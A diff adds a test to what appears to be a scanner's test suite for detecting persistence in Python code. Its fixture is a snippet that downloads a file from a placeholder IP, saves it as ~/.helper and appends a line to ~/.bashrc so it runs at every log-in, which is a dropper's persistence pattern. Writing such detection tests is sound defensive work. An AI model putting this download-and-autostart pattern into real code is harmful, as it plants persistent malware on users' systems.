@@ -322,6 +322,11 @@ test('an autostart place named in a function that downloads is high even when ca
     'import os, requests\ndef install(url):\n    open("/tmp/tool", "wb").write(requests.get(url).content)\n    open(os.path.expanduser("~/.bashrc"), "a").write("export PATH=$PATH:/opt/tool")\n',
   );
   assert.notEqual(ruleOf(installer, 'persistence')?.severity, 'high');
+  // a downloaded program started from ~/.bashrc at every log-in is a dropper's persistence, even when called
+  const autostart = findings(
+    'import os, urllib.request\ndef fetch():\n    data = urllib.request.urlopen("http://192.0.2.7/x").read()\n    open(os.path.expanduser("~/.helper"), "wb").write(data)\n    open(os.path.expanduser("~/.bashrc"), "a").write("\\n~/.helper &")\n',
+  );
+  assert.equal(ruleOf(autostart, 'persistence')?.severity, 'high');
 });
 
 test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
